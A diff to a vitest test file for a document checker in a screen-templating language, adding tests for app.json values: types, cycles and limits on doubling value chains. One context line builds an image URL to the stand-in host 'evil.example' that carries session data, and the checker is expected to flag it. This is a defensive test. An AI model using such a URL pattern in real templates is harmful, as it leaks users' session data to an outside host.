@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { MAX_RUN_CHAIN, MAX_VALUE_CHAIN } from "../language/limits.ts";
+import { MAX_APP_VALUE_PARTS, MAX_RUN_CHAIN, MAX_VALUE_CHAIN } from "../language/limits.ts";
 import { checkDocuments } from "./check-documents.ts";
 import accepted from "./example/accepted.json" with { type: "json" };
 import { exampleParts } from "./example/example-catalog.ts";
@@ -113,6 +113,53 @@ describe("named values", () => {
     const person = { end: "\u0024{values.who}", who: "a\u0024{params['session']}" };
     const picture = { type: "picture", src: "https://evil.example/?s=\u0024{values.end}" };
     expect(check({ "/body/1": picture }, person)).toMatchObject([{ code: "person-in-address", path: "/body/1/src" }]);
+  });
+});
+
+describe("values of app.json", () => {
+  const check = (values: object, words: string) => {
+    const app = withValue("schemas/app.json", "/values", values).find(({ path }) => path === "schemas/app.json");
+    const screens = change(exampleFiles(), "/body/1/text", words);
+    const files = screens.map((file) => (file.path === app?.path ? app : file));
+    return checkDocuments(files, exampleParts);
+  };
+
+  it("are read by screens, with the type of what they are made of", () => {
+    const values = { double: "\u0024{app.money.divisor * 2}", rates: [{ rate: 3 }] };
+    const words = "\u0024{text(app.values.double + app.values.rates[0].rate)}";
+    expect(check(values, words)).toEqual([]);
+    expect(check({ double: true }, "\u0024{text(app.values.double + 1)}")).toMatchObject([
+      { code: "expression-type", path: "/body/1/text" },
+    ]);
+    expect(check({ double: 1 }, "\u0024{text(app.values.dubble)}")).toMatchObject([
+      { code: "expression-member", hint: "did you mean double?" },
+    ]);
+  });
+
+  it("read each other but in no circle, and nothing of a screen", () => {
+    const words = "\u0024{text(app.values.a)}";
+    expect(check({ a: "\u0024{app.values.b + 1}", b: 2 }, words)).toEqual([]);
+    expect(check({ a: "\u0024{app.values.b}", b: "\u0024{app.values.a}" }, words)).toMatchObject([
+      { code: "value-cycle", file: "schemas/app.json", path: "/values/a" },
+      { code: "value-cycle", path: "/values/b" },
+    ]);
+    expect(check({ a: "\u0024{state.count}" }, words)).toMatchObject([
+      { code: "expression-name", file: "schemas/app.json", path: "/values/a" },
+    ]);
+  });
+
+  it("are refused where one comes to more parts than a phone should get, however short it is written", () => {
+    const doubling = Object.fromEntries(
+      Array.from({ length: 12 }, (_, index) => [
+        `v${index}`,
+        index === 0 ? 1 : `\u0024{app.values.v${index - 1} + app.values.v${index - 1}}`,
+      ]),
+    );
+    expect(check(doubling, "\u0024{text(app.values.v11)}")[0]).toMatchObject({
+      code: "value-chain",
+      file: "schemas/app.json",
+      message: expect.stringContaining(`${MAX_APP_VALUE_PARTS} are the most`),
+    });
   });
 });
 
